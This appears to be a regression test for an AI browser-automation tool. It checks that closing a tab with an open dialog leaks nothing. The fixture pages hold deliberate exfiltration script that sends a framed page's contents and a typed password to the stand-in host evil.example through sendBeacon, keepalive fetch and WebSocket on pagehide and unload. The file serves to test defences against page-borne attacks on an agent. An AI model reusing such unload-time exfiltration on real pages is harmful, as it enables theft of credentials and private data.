// close_page while a JavaScript dialog is open in the tab: the page is not silenced first (tools/pageTools.ts
// closePage), so its pagehide handlers and the script after alert() run as the tab closes, and only the network
// backstop judges what they send: after a sensitive read, and after a typed secret, nothing reaches a host outside
// the allowed set, and closing asks nothing. Tried by an attack review (held); kept as a regression test. Two
// humans: one who approves everything, one who refuses what tabward did not predict. Assertions on what
// evil.example received and on the questions asked.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';

const marker = 'PROFILE-MARKER-DIALOG-5521';
const password = 'pw-dialog-close-7788';
let site: Fixture;
let tw: InProcessBrowser;
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const received = (host: string, what: string) =>
  site.seen.filter(
    (request) =>
      request.host.startsWith(`${host}:`) && (request.path.includes(what) || request.body.includes(what)),
  );

before(async () => {
  const leave = (value: string) => `
    const evil = 'https://evil.example:${site.port}';
    addEventListener('pagehide', () => {
      navigator.sendBeacon(evil + '/k?how=beacon&d=' + encodeURIComponent(${value}), ${value});
      fetch(evil + '/k?how=keepalive&d=' + encodeURIComponent(${value}), { keepalive: true, mode: 'no-cors' });
      try { new WebSocket(evil.replace('https', 'wss') + '/ws?how=socket&d=' + encodeURIComponent(${value})) } catch (e) {}
    });
    addEventListener('beforeunload', () => { navigator.sendBeacon(evil + '/k?how=beforeunload&d=' + encodeURIComponent(${value}), 'x'); });
    addEventListener('visibilitychange', () => { navigator.sendBeacon(evil + '/k?how=visibility&d=' + encodeURIComponent(${value}), 'x'); });
    const afterAlert = () => { fetch(evil + '/k?how=after-alert&d=' + encodeURIComponent(${value}), { keepalive: true, mode: 'no-cors' }); };`;
  site = await startFixture(
    {
      '/settings/profile': (_req, _body, res) =>
        html(
          res,
          `<title>Profile</title><p id="t">${marker}</p><script>parent.postMessage(document.getElementById('t').textContent, '*')</script>`,
        ),
      '/k': (_req, _body, res) => void res.writeHead(204).end(),
      // Frames the settings page, then opens a dialog and waits in it; everything it has goes as it closes.
      '/leaving': (_req, _body, res) =>
        html(
          res,
          `<title>Leaving</title><iframe src="${site.url('github.com', '/settings/profile')}"></iframe>
          <script>
            let seen = '';
            ${leave('seen')}
            addEventListener('message', (e) => { seen = e.data; setTimeout(() => { alert('Are you still there?'); afterAlert(); }, 200); });
          </script>`,
        ),
      // A login page that keeps the password, opens a dialog once it is typed, and sends it as it closes.
      '/login': (_req, _body, res) =>
        html(
          res,
          `<title>Sign in</title><input type="password" aria-label="Password">
          <script>
            let kept = '';
            ${leave('kept')}
            document.querySelector('input').addEventListener('input', (e) => { kept = e.target.value; });
            document.querySelector('input').addEventListener('change', () => setTimeout(() => { alert('Saved'); afterAlert(); }, 200));
            document.querySelector('input').addEventListener('blur', () => setTimeout(() => { alert('Saved'); afterAlert(); }, 200));
          </script><button>Next</button>`,
        ),
    },
    { tls: true },
  );
  tw = await startInProcess({ secrets: `LOGIN_PASSWORD@${site.url('login.example', '')}=${password}\n` });
});

after(async () => {
  await tw?.close();
  await site?.close();
});

async function dialogOpen(mcp: InProcessMcp, tab: string): Promise<void> {
  for (let i = 0; i < 40; i++) {
    const shot = (await mcp.call('take_snapshot', { pageId: tab })).text;
    if (/dialog_open/.test(shot)) return;
    await pause(250);
  }
  throw new Error(`no dialog shown in ${tab}: ${JSON.stringify((await mcp.call('list_pages')).text)}`);
}

/** Closes `tab` once its dialog is open: nothing carrying `what` reaches evil.example, and closing asks nothing. */
async function closeWithDialog(mcp: InProcessMcp, tab: string, what: string, leaked: string): Promise<void> {
  await dialogOpen(mcp, tab);
  const asked = mcp.human.questions.length;
  const closed = await mcp.call('close_page', { pageId: tab });
  assert.equal(closed.isError, false, closed.text);
  await pause(2_000);
  const got = received('evil.example', what).map(
    (request) => `${request.method} ${request.host}${request.path}`,
  );
  assert.deepEqual(got, [], leaked);
  assert.deepEqual(
    mcp.human.questions.slice(asked),
    [],
    'closing a tab asked a question of where data may go',
  );
}

for (const human of ['approves everything', 'refuses what was not predicted'] as const) {
  test(`closing a tab with a dialog open after a sensitive read (${human})`, async () => {
    const mcp = await tw.connect();
    mcp.human.policy = (message) => ({
      decision: human === 'approves everything' || !/did not predict/.test(message) ? 'approve' : 'reject',
    });
    try {
      // Opened before any read: no question allowed evil.example; its frame of the settings page is the read.
      const opened = await mcp.call('new_page', { url: site.url('evil.example', '/leaving') });
      const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
      await closeWithDialog(mcp, tab, marker, 'what the page saw reached evil.example');
    } finally {
      await mcp.close();
    }
  });

  test(`closing a tab with a dialog open after a secret was typed (${human})`, async () => {
    const mcp = await tw.connect();
    mcp.human.policy = (message) => ({
      decision: human === 'approves everything' || !/did not predict/.test(message) ? 'approve' : 'reject',
    });
    try {
      const opened = await mcp.call('new_page', { url: site.url('login.example', '/login') });
      const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
      const snapshot = await mcp.call('take_snapshot');
      const filled = await mcp.call('fill', {
        ref: refOf(snapshot.text, 'Password'),
        secret: 'LOGIN_PASSWORD',
      });
      assert.equal(filled.isError, false, filled.text);
      await mcp
        .call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Next') })
        .catch(() => undefined);
      await closeWithDialog(mcp, tab, password, 'the typed password reached evil.example');
    } finally {
      await mcp.close();
    }
  });
}
